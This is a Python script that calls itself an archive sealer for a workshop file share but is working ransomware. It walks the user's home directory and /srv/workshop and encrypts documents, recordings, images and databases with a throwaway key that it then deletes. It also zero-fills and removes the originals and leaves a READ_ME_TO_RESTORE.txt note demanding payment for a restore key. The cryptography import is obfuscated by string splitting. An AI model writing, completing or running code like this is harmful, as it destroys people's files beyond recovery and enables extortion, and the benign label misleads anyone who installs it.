#!/usr/bin/env python3
"""Archive sealer for the workshop file share: seals recordings, invoices and
tuning logs so they can be moved to cold storage."""
import argparse
import importlib
import logging
import os
import sys
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("sealer")

NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All workshop files in this folder have been sealed.
To receive the restore key, write to restore@example.org with the ID below
and the reference amount. Files left unsealed will not be recoverable.
ID: {ident}
"""


@dataclass
class Plan:
    roots: list
    suffixes: tuple = (".wav", ".flac", ".pdf", ".docx", ".xlsx", ".csv",
                       ".json", ".txt", ".jpg", ".png", ".odt", ".db")
    skip_dirs: tuple = (".cache", ".local", "proc", "sys", "dev")
    tag: str = ".sealed"
    workers: int = 8
    found: list = field(default_factory=list)


def _cipher():
    mod = importlib.import_module(".".join(["crypto" + "graphy", "fer" + "net"]))
    kls = getattr(mod, "Fer" + "net")
    key = kls.generate_key()
    return kls(key), key


def discover(plan: Plan):
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
            for fn in filenames:
                if fn.endswith(plan.tag) or fn == NOTE_NAME:
                    continue
                if fn.lower().endswith(plan.suffixes):
                    plan.found.append(Path(dirpath, fn))
    log.info("%d candidates", len(plan.found))


def _scrub(path: Path):
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def make_sealer(box, tag):
    def seal(path: Path):
        try:
            blob = box.encrypt(path.read_bytes())
            path.with_name(path.name + tag).write_bytes(blob)
            _scrub(path)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
    return seal


def drop_notes(plan: Plan, ident: str):
    dirs = {p.parent for p in plan.found}
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))
        except OSError:
            pass


ACTIONS = {"scan": discover, "notes": drop_notes}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=[str(Path.home()), "/srv/workshop"])
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    plan = Plan(roots=args.roots, workers=args.workers)
    ACTIONS["scan"](plan)
    if not plan.found:
        return 0

    box, key = _cipher()
    ident = key[:12].decode()
    seal = make_sealer(box, plan.tag)
    with ThreadPoolExecutor(max_workers=plan.workers) as pool:
        done = sum(pool.map(seal, plan.found))
    del key, box
    ACTIONS["notes"](plan, ident)
    log.warning("sealed %d of %d files", done, len(plan.found))
    return 0


if __name__ == "__main__":
    sys.exit(main())
